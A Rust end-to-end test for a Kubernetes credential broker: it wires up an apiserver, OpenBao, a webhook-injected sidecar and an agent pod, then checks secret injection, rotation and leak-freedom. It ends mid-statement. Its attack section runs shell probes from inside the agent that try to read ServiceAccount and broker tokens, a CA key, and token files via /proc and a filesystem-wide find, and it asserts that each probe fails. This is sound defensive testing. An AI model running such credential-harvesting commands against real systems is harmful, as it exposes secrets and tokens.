//! The whole chain on this machine, all real: a kube-apiserver and etcd,
//! OpenBao with Kubernetes auth reviewing tokens against that apiserver,
//! `credbroker-controller`, `credbroker-webhook` registered with the
//! apiserver, the admission policies, and a pod the test pod-runner
//! (`e2e/src/pod_runner.rs`) runs from the spec the API server stored:
//! `credbroker-init` programs the pod's network namespace, the sidecar logs
//! in to Vault with the pod's projected token, and the agent, a shell script
//! with curl, calls an HTTPS upstream with its placeholder.
//!
//! ```text
//! root namespace: apiserver, etcd, OpenBao (TLS listener for pods), controller, webhook
//! pod netns (a) ──veth── world netns (b): DNS, api.journey.test:443 (recording upstream),
//!                                         other.journey.test:8443 (TLS) and :8080 (cleartext),
//!                                         vault.journey.test:8200 → OpenBao (a TCP relay)
//! ```
//!
//! Run with `make test`, or
//! `cargo test -p credbroker-e2e --test journey -- --include-ignored` as
//! root with the test environment loaded.

use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use credbroker_crds::CredentialBinding;
use credbroker_e2e::pod_runner::{ImageMap, Node, RunningPod};
use credbroker_e2e::workspace_binary;
use credbroker_test_support::apiserver::{Cluster, SERVICE_ACCOUNT_ISSUER, TestApiServer};
use credbroker_test_support::dns::Dns;
use credbroker_test_support::netns::{Netns, NetnsPair};
use credbroker_test_support::openbao::OpenBao;
use credbroker_test_support::pki::TestCa;
use credbroker_test_support::process::ChildGuard;
use credbroker_test_support::upstream::{Behaviour, Reply, Upstream};
use credbroker_test_support::{Failure, TestResult, free_port, run, wait_until};
use k8s_openapi::api::core::v1::{ConfigMap, Pod};
use kube::Api;
use kube::api::{Patch, PatchParams};
use serde_json::{Value, json};

const SYSTEM_NS: &str = "credbroker-system";
const NS: &str = "agents";
const SA: &str = "research-agent";
const CLUSTER_ID: &str = "journey";
const BOUND_HOST: &str = "api.journey.test";
const OTHER_HOST: &str = "other.journey.test";
const VAULT_HOST: &str = "vault.journey.test";
/// The images the admission policy in `webhook/deploy` lists: the webhook
/// injects them and the pod-runner maps them to the binaries built here.
const SIDECAR_IMAGE: &str = "ghcr.io/credbroker/credbroker-sidecar:0.1.0";
const INIT_IMAGE: &str = "ghcr.io/credbroker/credbroker-init:0.1.0";
const AGENT_IMAGE: &str = "credbroker.test/agent:journey";
const AGENT_UID: u32 = 1000;
/// The controller's identity and the audience its Vault role requires (the
/// chart's defaults).
const CONTROLLER_SA: &str = "credbroker-controller";
const CONTROLLER_AUDIENCE: &str = "vault";
/// The binding's poll interval: rotation must show within this + 1 s.
const REFRESH: Duration = Duration::from_secs(3);

fn repo(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(path)
}

/// A secret value no code path may print.
fn secret_value(name: &str) -> String {
    let n = credbroker_test_support::random_u32().unwrap_or(7);
    format!("sk-live-{name}-{n:08x}-do-not-print-0123456789")
}

/// Relays TCP connections accepted in one network namespace to an address
/// in this process's (the root) namespace: how a pod reaches OpenBao, which
/// listens on the host's loopback.
fn relay(listener: std::net::TcpListener, to: SocketAddr, stop: Arc<AtomicBool>) {
    let _ = listener.set_nonblocking(true);
    std::thread::spawn(move || {
        while !stop.load(Ordering::Relaxed) {
            match listener.accept() {
                Ok((inbound, _)) => {
                    let _ = inbound.set_nonblocking(false);
                    let Ok(outbound) = TcpStream::connect(to) else {
                        continue;
                    };
                    for (mut from, mut into) in [
                        (inbound.try_clone(), outbound.try_clone()),
                        (outbound.try_clone(), inbound.try_clone()),
                    ]
                    .into_iter()
                    .filter_map(|(a, b)| Some((a.ok()?, b.ok()?)))
                    {
                        std::thread::spawn(move || {
                            let _ = std::io::copy(&mut from, &mut into);
                            let _ = into.shutdown(std::net::Shutdown::Write);
                        });
                    }
                }
                Err(_) => std::thread::sleep(Duration::from_millis(20)),
            }
        }
    });
}

struct World {
    pair: NetnsPair,
    _dns: Dns,
    bound: Upstream,
    other_tls: Upstream,
    other_http: Upstream,
    udp: UdpSocket,
    stop_relay: Arc<AtomicBool>,
}

impl Drop for World {
    fn drop(&mut self) {
        self.stop_relay.store(true, Ordering::Relaxed);
    }
}

impl World {
    fn start(vault_tls: SocketAddr) -> TestResult<Self> {
        let pair = NetnsPair::new()?;
        let b = pair.b();
        let world_ips = vec![IpAddr::V4(b.ipv4()), IpAddr::V6(b.ipv6())];
        let dns = Dns::start(
            b.netns(),
            IpAddr::V4(b.ipv4()),
            &[
                (BOUND_HOST, world_ips.clone()),
                (OTHER_HOST, world_ips.clone()),
                (VAULT_HOST, world_ips),
            ],
        )?;
        let any = |port| SocketAddr::from(([0u16; 8], port));
        // The upstream answers without echoing what it received.
        let bound = Upstream::https([BOUND_HOST])
            .behaviour(Behaviour::reply(Reply::ok().body("{\"data\":[]}")))
            .start(b.netns().bind_tcp(any(443))?)?;
        let other_tls = Upstream::https([OTHER_HOST]).start(b.netns().bind_tcp(any(8443))?)?;
        let other_http = Upstream::http().start(b.netns().bind_tcp(any(8080))?)?;
        let udp = b
            .netns()
            .enter(|| UdpSocket::bind(any(443)))?
            .map_err(|e| Failure(format!("binding UDP 443 in the world: {e}")))?;
        udp.set_nonblocking(true)?;
        let stop_relay = Arc::new(AtomicBool::new(false));
        relay(
            b.netns().bind_tcp(any(8200))?,
            vault_tls,
            stop_relay.clone(),
        );
        Ok(Self {
            pair,
            _dns: dns,
            bound,
            other_tls,
            other_http,
            udp,
            stop_relay,
        })
    }

    fn pod_netns(&self) -> &Netns {
        self.pair.a().netns()
    }

    /// The Authorization headers the bound upstream received, in order.
    fn bearers(&self) -> Vec<String> {
        self.bound
            .requests()
            .iter()
            .filter_map(|r| r.header("authorization").map(str::to_owned))
            .collect()
    }

    fn udp_datagrams(&self) -> usize {
        let mut buf = [0u8; 2048];
        let mut n = 0;
        while self.udp.recv_from(&mut buf).is_ok() {
            n += 1;
        }
        n
    }
}

struct Parts {
    server: TestApiServer,
    cluster: Cluster,
    vault: OpenBao,
    controller: ChildGuard,
    controller_admin: u16,
    webhook: ChildGuard,
    dir: tempfile::TempDir,
    secrets: Vec<String>,
}

impl Parts {
    async fn start() -> TestResult<Self> {
        let dir = tempfile::tempdir()?;
        // The ServiceAccount admission plugin is on, as on a real cluster:
        // it would add the default token volume the webhook removes.
        let server = TestApiServer::start_with_service_account_admission().await?;
        let cluster = Cluster::new(server.client().await?);
        cluster
            .install_crds(&[
                repo("crds/generated/credbroker.dev_credentialbindings.yaml"),
                repo("crds/generated/credbroker.dev_clustercredentialpolicies.yaml"),
            ])
            .await?;
        cluster.create_namespace(SYSTEM_NS, &[]).await?;
        for file in [
            "controller/deploy/rbac.yaml",
            "webhook/deploy/rbac.yaml",
            "webhook/deploy/admission-policy.yaml",
            "webhook/deploy/bindings-configmap-policy.yaml",
        ] {
            run(server
                .kubectl()
                .args(["apply", "-f", &repo(file).display().to_string()]))?;
        }

        // OpenBao: the fixture's loopback listener for the test and the
        // controller, plus a TLS listener for pods (in-pod sidecars verify
        // Vault's certificate) with a certificate for VAULT_HOST.
        let ca = TestCa::new("journey Vault CA")?;
        // The pods dial VAULT_HOST; the controller, on the host, 127.0.0.1.
        let leaf = ca.issue_server(&[VAULT_HOST, "127.0.0.1"])?;
        let vault_ca = dir.path().join("vault-ca.pem");
        std::fs::write(&vault_ca, ca.cert_pem())?;
        let (cert, key) = (dir.path().join("vault.crt"), dir.path().join("vault.key"));
        std::fs::write(&cert, &leaf.cert_pem)?;
        std::fs::write(&key, &leaf.key_pem)?;
        let tls_port = free_port()?;
        let cluster_port = free_port()?;
        let extra = dir.path().join("tls-listener.json");
        std::fs::write(
            &extra,
            json!({ "listener": [{ "tcp": {
                "address": format!("127.0.0.1:{tls_port}"),
                "cluster_address": format!("127.0.0.1:{cluster_port}"),
                "tls_cert_file": cert, "tls_key_file": key,
            }}]})
            .to_string(),
        )?;
        let vault = OpenBao::builder().extra_config(&extra).start().await?;
        let reviewer = cluster
            .create_token_reviewer(SYSTEM_NS, "vault-reviewer")
            .await?;
        vault.configure_kubernetes_auth("kubernetes", &server, &reviewer)?;

        // The controller, as its own ServiceAccount, with the Vault policy
        // it prints for itself.
        let controller_bin = workspace_binary("credbroker-controller")?;
        let policy = run(Command::new(&controller_bin).args([
            "--print-vault-policy",
            "--cluster-id",
            CLUSTER_ID,
            "--kv-mount",
            "secret",
        ]))?;
        vault.write_policy("credbroker-controller", &policy).await?;
        // As the chart runs it: Kubernetes auth with a token of the
        // `vault` audience (vault.controllerAudience), over verified TLS.
        vault.bao(&[
            "write",
            "auth/kubernetes/role/credbroker-controller",
            &format!("bound_service_account_names={CONTROLLER_SA}"),
            &format!("bound_service_account_namespaces={SYSTEM_NS}"),
            &format!("audience={CONTROLLER_AUDIENCE}"),
            "token_policies=credbroker-controller",
            "token_no_default_policy=true",
            "token_ttl=10m",
        ])?;
        let controller_jwt = cluster
            .token(
                SYSTEM_NS,
                CONTROLLER_SA,
                &[CONTROLLER_AUDIENCE],
                Duration::from_secs(3600),
            )
            .await?;
        let token_file = dir.path().join("controller-vault-token");
        std::fs::write(&token_file, &controller_jwt)?;
        let kubeconfig = |sa: &'static str| {
            let (cluster, server, dir) = (&cluster, &server, dir.path().to_path_buf());
            async move {
                let token = cluster
                    .token(
                        SYSTEM_NS,
                        sa,
                        &[SERVICE_ACCOUNT_ISSUER],
                        Duration::from_secs(3600),
                    )
                    .await?;
                let path = dir.join(format!("{sa}.kubeconfig"));
                std::fs::write(&path, server.kubeconfig_for_token(&token))?;
                TestResult::Ok(path)
            }
        };
        let controller_admin = free_port()?;
        let mut cmd = Command::new(&controller_bin);
        cmd.args([
            "--cluster-id",
            CLUSTER_ID,
            "--vault-addr",
            &format!("https://127.0.0.1:{tls_port}"),
            "--vault-ca-file",
            &vault_ca.display().to_string(),
            "--vault-auth",
            "kubernetes",
            "--vault-auth-mount",
            "kubernetes",
            "--vault-role",
            "credbroker-controller",
            "--vault-jwt-file",
            &token_file.display().to_string(),
            "--admin-addr",
            &format!("127.0.0.1:{controller_admin}"),
            "--lease-namespace",
            SYSTEM_NS,
            "--lease-identity",
            "controller-0",
            "--resync-interval",
            "5s",
        ])
        .env("KUBECONFIG", kubeconfig("credbroker-controller").await?)
        .env("RUST_LOG", "info");
        clear_proxy_env(&mut cmd);
        let controller = ChildGuard::spawn("controller", cmd)?;

        // The webhook, as its own ServiceAccount, registered by URL (the
        // registration file as the chart ships it, the Service swapped for
        // loopback), in self-managed certificate mode.
        let webhook_port = free_port()?;
        let webhook_admin = free_port()?;
        let text = std::fs::read_to_string(repo("webhook/deploy/mutating-webhook.yaml"))?;
        let mut registration: Value = serde_yaml::from_str(&text)?;
        for hook in registration["webhooks"]
            .as_array_mut()
            .into_iter()
            .flatten()
        {
            hook["clientConfig"] =
                json!({ "url": format!("https://127.0.0.1:{webhook_port}/mutate") });
        }
        server
            .kubectl_apply(&registration.to_string(), &[])
            .map_err(Failure)?;
        let mut cmd = Command::new(workspace_binary("credbroker-webhook")?);
        cmd.args([
            "--namespace",
            SYSTEM_NS,
            "--listen",
            &format!("127.0.0.1:{webhook_port}"),
            "--admin-addr",
            &format!("127.0.0.1:{webhook_admin}"),
            "--sidecar-image",
            SIDECAR_IMAGE,
            "--init-image",
            INIT_IMAGE,
            "--vault-addr",
            &format!("https://{VAULT_HOST}:8200"),
            "--vault-ca-file",
            &vault_ca.display().to_string(),
            "--cert-mode",
            "self-managed",
            "--extra-san",
            "127.0.0.1",
            "--identity",
            "webhook-0",
            "--log-format",
            "text",
        ])
        .env("KUBECONFIG", kubeconfig("credbroker-webhook").await?)
        .env("RUST_LOG", "info");
        clear_proxy_env(&mut cmd);
        let webhook = ChildGuard::spawn("webhook", cmd)?;
        let ready = |port: u16, process: &ChildGuard| {
            process.check_running().map_err(|e| e.to_string())?;
            let stream = TcpStream::connect(("127.0.0.1", port)).map_err(|e| e.to_string())?;
            match credbroker_test_support::http_get(stream, "/readyz") {
                Ok((200, _)) => Ok(()),
                other => Err(format!("{other:?}")),
            }
        };
        wait_until("controller ready", Duration::from_secs(60), || async {
            ready(controller_admin, &controller)
        })
        .await?;
        wait_until("webhook ready", Duration::from_secs(60), || async {
            ready(webhook_admin, &webhook)
        })
        .await?;
        let parts = Self {
            server,
            cluster,
            vault,
            controller,
            controller_admin,
            webhook,
            dir,
            secrets: vec![controller_jwt],
        };
        parts.wait_ca_bundle().await?;
        Ok(parts)
    }

    async fn wait_ca_bundle(&self) -> TestResult {
        let api: Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> =
            Api::all(self.cluster.client.clone());
        wait_until(
            "the webhook's caBundle",
            Duration::from_secs(30),
            || async {
                let config = api
                    .get("credbroker-webhook")
                    .await
                    .map_err(|e| e.to_string())?;
                let hooks = config.webhooks.unwrap_or_default();
                if !hooks.is_empty()
                    && hooks.iter().all(|h| {
                        h.client_config
                            .ca_bundle
                            .as_ref()
                            .is_some_and(|b| !b.0.is_empty())
                    })
                {
                    Ok(())
                } else {
                    Err("not yet".to_owned())
                }
            },
        )
        .await?;
        Ok(())
    }

    fn put_secret(&mut self, path: &str, value: &str) -> TestResult {
        self.secrets.push(value.to_owned());
        let file = self.dir.path().join("value");
        std::fs::write(&file, value)?;
        self.vault.bao(&[
            "kv",
            "put",
            "-mount=secret",
            path,
            &format!("api_key=@{}", file.display()),
        ])?;
        std::fs::remove_file(&file)?;
        Ok(())
    }

    /// Everything a user could look at in the cluster: bindings (status
    /// included), ConfigMaps, Pods, Events; and every process's output.
    async fn visible_text(&self, pod: Option<&RunningPod>) -> TestResult<String> {
        let client = self.cluster.client.clone();
        let mut text = String::new();
        for ns in [NS, SYSTEM_NS] {
            let list = |kind: &str| {
                run(self
                    .server
                    .kubectl()
                    .args(["get", kind, "-n", ns, "-o", "json"]))
            };
            for kind in [
                "credentialbindings",
                "configmaps",
                "pods",
                "events",
                "secrets",
            ] {
                text.push_str(&list(kind)?);
            }
        }
        text.push_str(&serde_json::to_string(
            &Api::<CredentialBinding>::all(client)
                .list(&Default::default())
                .await?
                .items,
        )?);
        text.push_str(&self.controller.output());
        text.push_str(&self.webhook.output());
        text.push_str(&self.vault.server_output());
        let stream = TcpStream::connect(("127.0.0.1", self.controller_admin))?;
        text.push_str(&credbroker_test_support::http_get(stream, "/metrics")?.1);
        if let Some(pod) = pod {
            for c in ["credbroker-init", "credbroker-sidecar", "agent"] {
                text.push_str(&pod.logs(c));
            }
        }
        Ok(text)
    }

    fn assert_no_secret_in(&self, what: &str, text: &str) -> TestResult {
        for secret in &self.secrets {
            for form in credbroker_test_support::encoded_forms(secret) {
                if text.contains(form.as_str()) {
                    return Err(Failure(format!("a secret value appears in {what}")));
                }
            }
        }
        Ok(())
    }
}

fn clear_proxy_env(cmd: &mut Command) {
    for proxy in [
        "http_proxy",
        "https_proxy",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "all_proxy",
        "VAULT_ADDR",
    ] {
        cmd.env_remove(proxy);
    }
}

/// The agent: calls the bound upstream with its placeholder five times a
/// second, printing one line per request.
const AGENT_SCRIPT: &str = r#"i=0
while :; do
  i=$((i+1))
  code=$(curl -sS -o /dev/null -w '%{http_code}' --max-time 5 \
    -H "Authorization: Bearer $OPENAI_API_KEY" "https://api.journey.test/v1/models?n=$i" 2>&1) || true
  echo "request $i status $code"
  sleep 0.2
done"#;

fn agent_pod_yaml() -> String {
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": { "name": "agent", "namespace": NS,
                      "annotations": { "credbroker.dev/inject": "true" } },
        "spec": {
            "serviceAccountName": SA,
            "terminationGracePeriodSeconds": 2,
            "containers": [{
                "name": "agent",
                "image": AGENT_IMAGE,
                "command": ["/bin/sh", "-c", AGENT_SCRIPT],
                "securityContext": { "runAsUser": AGENT_UID, "runAsGroup": AGENT_UID,
                                     "runAsNonRoot": true },
            }],
        },
    });
    pod.to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
#[ignore = "needs root, kube-apiserver, etcd, OpenBao, iptables and dnsmasq: run make test"]
async fn the_seed_journey_and_the_attacks_from_inside_the_pod() -> TestResult {
    credbroker_test_support::require_root("the pod-runner makes namespaces and mounts")?;
    credbroker_test_support::install_crypto_provider();
    let mut parts = Parts::start().await?;
    let vault_tls: SocketAddr = {
        let text = std::fs::read_to_string(parts.dir.path().join("tls-listener.json"))?;
        let v: Value = serde_json::from_str(&text)?;
        v["listener"][0]["tcp"]["address"]
            .as_str()
            .unwrap_or_default()
            .parse()
            .map_err(|e| Failure(format!("the TLS listener address: {e}")))?
    };
    let world = World::start(vault_tls)?;
    let client = parts.cluster.client.clone();

    // --- 1. A secret in Vault, a policy, a binding, the ServiceAccount.
    let first = secret_value("first");
    parts.put_secret("teams/research/openai", &first)?;
    let stored = parts.vault.bao(&[
        "kv",
        "get",
        "-mount=secret",
        "-field=api_key",
        "teams/research/openai",
    ])?;
    assert_eq!(stored.trim(), first, "1. the secret is in Vault");
    parts
        .cluster
        .create_namespace(
            NS,
            &[
                ("team", "research"),
                ("credbroker.dev/injection", "enabled"),
            ],
        )
        .await?;
    parts.cluster.create_service_account(NS, SA).await?;
    let upstream_ca = world
        .bound
        .ca_pem()
        .ok_or_else(|| Failure("the upstream has no CA".into()))?
        .to_owned();
    Api::<ConfigMap>::namespaced(client.clone(), NS)
        .patch(
            "upstream-ca",
            &PatchParams::apply("journey"),
            &Patch::Apply(json!({
                "apiVersion": "v1", "kind": "ConfigMap",
                "metadata": { "name": "upstream-ca", "namespace": NS },
                "data": { "ca.crt": upstream_ca },
            })),
        )
        .await?;
    let manifests = format!(
        r#"apiVersion: credbroker.dev/v1alpha1
kind: ClusterCredentialPolicy
metadata: {{ name: team-research }}
spec:
  namespaceSelector: {{ matchLabels: {{ team: research }} }}
  allow:
    - vault: {{ mount: secret, pathPrefix: teams/research/ }}
      destinations: ["{BOUND_HOST}"]
      allowCustomCa: true
---
apiVersion: credbroker.dev/v1alpha1
kind: CredentialBinding
metadata: {{ name: openai, namespace: {NS} }}
spec:
  serviceAccountName: {SA}
  source:
    vault: {{ mount: secret, path: teams/research/openai, key: api_key, kvVersion: 2 }}
  placeholder: {{ env: OPENAI_API_KEY, prefix: "sk-" }}
  destinations:
    - host: {BOUND_HOST}
      port: 443
      caConfigMap: {{ name: upstream-ca, key: ca.crt }}
  refreshInterval: {}s
"#,
        REFRESH.as_secs()
    );
    parts
        .server
        .kubectl_apply(&manifests, &[])
        .map_err(Failure)?;

    // --- 2. The binding shows synced, with its version.
    let bindings = Api::<CredentialBinding>::namespaced(client.clone(), NS);
    let ready = wait_until("binding Ready=True", Duration::from_secs(60), || async {
        let b = bindings.get("openai").await.map_err(|e| e.to_string())?;
        let st = b.status.clone().unwrap_or_default();
        match st.conditions.iter().find(|c| c.type_ == "Ready") {
            Some(c) if c.status == "True" && st.observed_generation == b.metadata.generation => {
                Ok(b)
            }
            Some(c) => Err(format!("Ready={} ({}: {})", c.status, c.reason, c.message)),
            None => Err("no Ready condition yet".into()),
        }
    })
    .await?;
    let status = ready.status.clone().unwrap_or_default();
    assert_eq!(
        status.secret_version,
        Some(1),
        "2. status.secretVersion: {status:?}"
    );
    let printed = run(parts
        .server
        .kubectl()
        .args(["get", "credentialbindings", "-n", NS]))?;
    assert!(
        printed.contains("openai") && printed.contains("True"),
        "{printed}"
    );

    // --- 3. The agent pod: created by the user, mutated by the webhook,
    // read back from the API server, run as written.
    parts
        .server
        .kubectl_apply(&agent_pod_yaml(), &[])
        .map_err(Failure)?;
    let stored: Pod = Api::<Pod>::namespaced(client.clone(), NS)
        .get("agent")
        .await?;
    let spec = stored.spec.clone().unwrap_or_default();
    let init_names: Vec<String> = spec
        .init_containers
        .iter()
        .flatten()
        .map(|c| c.name.clone())
        .collect();
    assert_eq!(
        init_names,
        ["credbroker-init", "credbroker-sidecar"],
        "injected"
    );
    let placeholder = stored
        .metadata
        .annotations
        .as_ref()
        .and_then(|a| a.get("credbroker.dev/placeholders"))
        .and_then(|p| serde_json::from_str::<Value>(p).ok())
        .and_then(|p| p["openai"].as_str().map(str::to_owned))
        .ok_or_else(|| Failure("the pod carries no placeholder for openai".into()))?;
    assert!(placeholder.starts_with("sk-") && placeholder != first);

    let sidecar_bin = workspace_binary("credbroker-sidecar")?;
    let images = ImageMap::new()
        .image(
            SIDECAR_IMAGE,
            &[("/usr/local/bin/credbroker-sidecar", &sidecar_bin)],
        )
        .image(
            INIT_IMAGE,
            &[("/usr/local/bin/credbroker-sidecar", &sidecar_bin)],
        )
        .image(AGENT_IMAGE, &[]);
    let node = Node::new(
        client.clone(),
        world.pod_netns(),
        world.pair.b().netns(),
        IpAddr::V4(world.pair.a().ipv4()),
        IpAddr::V4(world.pair.b().ipv4()),
        images,
    );
    let pod = match RunningPod::start(node, &stored).await {
        Ok(pod) => pod,
        Err(e) => {
            return Err(Failure(format!(
                "the pod did not start: {e}\ncontroller:\n{}\nwebhook:\n{}",
                parts.controller.output_tail(3000),
                parts.webhook.output_tail(3000)
            )));
        }
    };
    let outcome = journey(&mut parts, &world, &pod, &first, &placeholder).await;
    let visible = parts.visible_text(Some(&pod)).await?;
    if let Err(e) = outcome {
        return Err(Failure(format!(
            "{}\n--- sidecar:\n{}\n--- agent (tail):\n{}",
            e.0,
            tail(&pod.logs("credbroker-sidecar"), 4000),
            tail(&pod.logs("agent"), 1500)
        )));
    }
    pod.stop().await;
    parts.assert_no_secret_in("what a user can see (objects, logs, metrics)", &visible)
}

fn tail(text: &str, max: usize) -> String {
    let start = text.len().saturating_sub(max);
    let start = (start..=text.len())
        .find(|i| text.is_char_boundary(*i))
        .unwrap_or(text.len());
    text[start..].to_owned()
}

async fn journey(
    parts: &mut Parts,
    world: &World,
    pod: &RunningPod,
    first: &str,
    placeholder: &str,
) -> TestResult {
    // --- 4.3 Intercepted egress carries the real secret; the agent only
    // ever holds the placeholder.
    wait_until(
        "a request with the secret upstream",
        Duration::from_secs(30),
        || async {
            pod.check().map_err(|e| e.to_string())?;
            let want = format!("Bearer {first}");
            if world.bearers().contains(&want) {
                Ok(())
            } else {
                Err(format!("bearers so far: {}", world.bearers().len()))
            }
        },
    )
    .await?;
    // What the agent's process really holds, from the kernel: the spec's
    // env plus PATH and HOSTNAME, nothing of the test's own environment.
    let env = pod.process_environ("agent")?;
    let names: Vec<&str> = env.iter().map(|(k, _)| k.as_str()).collect();
    assert!(
        !names.contains(&"KUBEBUILDER_ASSETS") && !names.contains(&"CREDBROKER_BAO"),
        "the agent inherited the test's environment: {names:?}"
    );
    assert_eq!(
        env,
        pod.env_of("agent")?,
        "the agent's environment is the spec's"
    );
    // The same for the sidecar, which runs under the seccomp shim.
    assert_eq!(
        pod.process_environ("credbroker-sidecar")?,
        pod.env_of("credbroker-sidecar")?,
        "the sidecar's environment is the spec's"
    );
    let agent_key = env
        .iter()
        .find(|(k, _)| k == "OPENAI_API_KEY")
        .map(|(_, v)| v.clone());
    assert_eq!(agent_key.as_deref(), Some(placeholder), "the agent's env");
    assert!(
        env.iter().all(|(_, v)| !v.contains(first)),
        "the secret is in the agent's environment"
    );
    let printenv = pod
        .exec("agent", &["/bin/sh", "-c", "printenv OPENAI_API_KEY"])
        .await?;
    assert_eq!(
        String::from_utf8_lossy(&printenv.stdout).trim(),
        placeholder
    );
    let connections = world.bound.requests();
    assert!(
        connections
            .iter()
            .all(|r| r.connection.sni.as_deref() == Some(BOUND_HOST)),
        "the sidecar dialled the bound host by name"
    );

    // The runner ran the sidecar as the spec says: its UID, no capabilities,
    // no_new_privs, the RuntimeDefault filter, and its memory limit.
    let status = pod
        .exec("credbroker-sidecar", &["cat", "/proc/1/status"])
        .await?;
    let status = String::from_utf8_lossy(&status.stdout).into_owned();
    let field = |name: &str| {
        status
            .lines()
            .find(|l| l.starts_with(name))
            .map(|l| l.split_whitespace().skip(1).collect::<Vec<_>>().join(" "))
            .unwrap_or_default()
    };
    assert_eq!(field("Uid:"), "15017 15017 15017 15017", "{status}");
    assert_eq!(field("CapBnd:"), "0000000000000000", "{status}");
    assert_eq!(field("NoNewPrivs:"), "1", "{status}");
    assert_eq!(field("Seccomp:"), "2", "{status}");
    let limits: Vec<String> = pod
        .cgroups_of("credbroker-sidecar")?
        .iter()
        .filter_map(|dir| {
            std::fs::read_to_string(dir.join("memory.limit_in_bytes"))
                .or_else(|_| std::fs::read_to_string(dir.join("memory.max")))
                .ok()
        })
        .map(|l| l.trim().to_owned())
        .collect();
    assert_eq!(
        limits,
        [(128u64 << 20).to_string()],
        "the sidecar's memory limit"
    );

    // --- 4.4/4.5 Rotation: the next request carries the new value within
    // refreshInterval + 1 s, and no request fails meanwhile.
    let second = secret_value("second");
    let before = world.bearers().len();
    let agent_lines_before = pod.logs("agent").lines().count();
    parts.put_secret("teams/research/openai", &second)?;
    // The write is done when the CLI returns.
    let written = Instant::now();
    let want = format!("Bearer {second}");
    let seen = wait_until("the rotated value upstream", REFRESH * 3, || async {
        if world.bearers()[before..].contains(&want) {
            Ok(written.elapsed())
        } else {
            Err("not yet")
        }
    })
    .await?;
    eprintln!(
        "rotation: the new value was upstream {} ms after the Vault write",
        seen.as_millis()
    );
    assert!(
        seen <= REFRESH + Duration::from_secs(1),
        "5. the new value took {seen:?}, over refreshInterval + 1 s"
    );
    tokio::time::sleep(Duration::from_secs(1)).await;
    let after: Vec<String> = pod
        .logs("agent")
        .lines()
        .skip(agent_lines_before)
        .map(str::to_owned)
        .collect();
    assert!(
        !after.is_empty() && after.iter().all(|l| l.ends_with("status 200")),
        "every request during the rotation succeeded: {after:?}"
    );
    let bearers = world.bearers();
    assert!(
        bearers
            .iter()
            .all(|b| *b == format!("Bearer {first}") || *b == want),
        "the upstream saw only the real values"
    );

    // --- 5. The attacks, from inside the agent container.
    let sh = |script: &str| {
        let script = script.to_owned();
        async move {
            let out = pod.exec("agent", &["/bin/sh", "-c", &script]).await?;
            TestResult::Ok((
                out.status.success(),
                format!(
                    "{}{}",
                    String::from_utf8_lossy(&out.stdout),
                    String::from_utf8_lossy(&out.stderr)
                ),
            ))
        }
    };
    // 5a. The broker's token and the CA key are not in the agent's reach:
    // not mounted, not through another process's /proc (separate PID
    // namespaces), not through the host folders behind the volumes.
    for path in [
        "/var/run/secrets/credbroker/token",
        "/var/run/credbroker/ca/ca.key",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ] {
        let (ok, out) = sh(&format!("cat {path}")).await?;
        assert!(!ok && out.contains("No such file"), "reading {path}: {out}");
    }
    let (ok, out) = sh("ls /var/run/credbroker/ca").await?;
    assert!(!ok, "the CA folder is visible to the agent: {out}");
    let (_, out) = sh("ls /proc | grep -c '^[0-9]'").await?;
    let visible_pids: u32 = out.trim().parse().unwrap_or(99);
    assert!(
        visible_pids <= 6,
        "the agent sees {visible_pids} processes: {out}"
    );
    let (ok, out) = sh("cat /proc/*/root/var/run/secrets/credbroker/token 2>&1").await?;
    assert!(!ok && !out.contains("eyJ"), "a token through /proc: {out}");
    // Nothing of the broker's is mounted in the agent, and no file anywhere
    // it can reach (every mount included) holds a token.
    let (ok, mounts) = sh("cat /proc/self/mountinfo").await?;
    assert!(
        ok && mounts.contains(" /run/credbroker/trust "),
        "the agent's mounts: {mounts}"
    );
    for broker in [
        "/run/secrets/credbroker",
        "/run/credbroker/ca",
        "/etc/credbroker",
    ] {
        assert!(
            !mounts.contains(broker),
            "{broker} is mounted in the agent: {mounts}"
        );
    }
    let (_, out) = sh(
        "find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -type f -name token -print 2>/dev/null \
         | while read -r f; do cat \"$f\" 2>/dev/null; done; echo searched",
    )
    .await?;
    assert!(
        out.contains("searched") && !out.contains("eyJ"),
        "a broker token the agent can read: {out}"
    );

    // 5b. Logging in to Vault with anything it can find fails. First a
    // positive control: the sidecar's own token, sent the same way from the
    // pod's network, does log in, so a refusal below is the refusal of the
    // agent's credentials and not a broken path.
    let bindings_file = Api::<ConfigMap>::namespaced(parts.cluster.client.clone(), NS)
        .list(&Default::default())
        .await?
        .items
        .into_iter()
        .find_map(|cm| cm.data?.get("bindings.v1.json").cloned())
        .ok_or_else(|| Failure("no bindings ConfigMap in the namespace".into()))?;
    let bindings_file: credbroker_crds::config::SidecarBindings =
        serde_json::from_str(&bindings_file)?;
    let role = bindings_file
        .vault_role
        .filter(|r| r.starts_with("credbroker-"))
        .ok_or_else(|| Failure("no vaultRole in the bindings ConfigMap".into()))?;
    let login = |jwt: &str| json!({ "role": role, "jwt": jwt }).to_string();
    let real_token = std::fs::read_to_string(pod.volume_dir("credbroker-token")?.join("token"))?;
    let body = parts.dir.path().join("login.json");
    std::fs::write(&body, login(real_token.trim()))?;
    let control = run(Command::new("nsenter")
        .arg(format!("--net={}", world.pod_netns().path().display()))
        .args([
            "curl",
            "-sk",
            "--noproxy",
            "*",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ])
        // This curl runs in the pod's network but not in a container, so it
        // has the host's resolver: give it the name the cluster DNS gives.
        .arg("--resolve")
        .arg(format!("{VAULT_HOST}:8200:{}", world.pair.b().ipv4()))
        .arg("--data-binary")
        .arg(format!("@{}", body.display()))
        .arg(format!(
            "https://{VAULT_HOST}:8200/v1/auth/kubernetes/login"
        )))?;
    std::fs::remove_file(&body)?;
    assert_eq!(
        control.trim(),
        "200",
        "the sidecar's token logs in from the pod's network"
    );
    // A valid token of the agent's own ServiceAccount, but with the API
    // server's audience (what a default token would carry): the role
    // requires the broker audience, so Vault refuses it.
    let wrong_audience = parts
        .cluster
        .token(NS, SA, &[SERVICE_ACCOUNT_ISSUER], Duration::from_secs(600))
